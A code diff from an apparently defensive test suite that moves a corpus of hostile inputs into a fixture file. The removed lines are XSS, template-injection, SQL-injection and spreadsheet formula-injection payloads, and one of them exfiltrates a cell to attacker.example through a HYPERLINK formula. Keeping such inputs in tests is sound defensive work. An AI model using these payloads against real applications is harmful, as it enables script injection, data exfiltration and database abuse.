@@ -23,29 +23,9 @@ from tests.conftest import (
     shipped_catalogue,
     submit_answers,
 )
+from tests.fixtures.bad_inputs import CORPUS  # noqa: E402
 from tests.views.test_training import weak_answers  # noqa: E402
 
-CORPUS = [
-    '"><h1>X</h1><img src=x onerror=alert(1)>',
-    "<xmp><script>alert(1)</script></xmp>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<svg/onload=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "javascript:alert(1)",
-    "{{7*7}}",
-    "{{ config.items() }}",
-    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{c}}{% endfor %}",
-    "1'; SELECT SLEEP(5)--",
-    "1') OR ('1'='1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1 after a tab",
-    "-12.5",
-    "right-to-left \u202e override, emoji 🔐",
-]
 LIVE_MARKUP = ("<script>alert(1)", "<img src=x", "<svg/onload", "<h1>X</h1>", "<xmp>")
 CEO = shipped_catalogue().current("ceo")
 CYCLE = "2026-Q4"
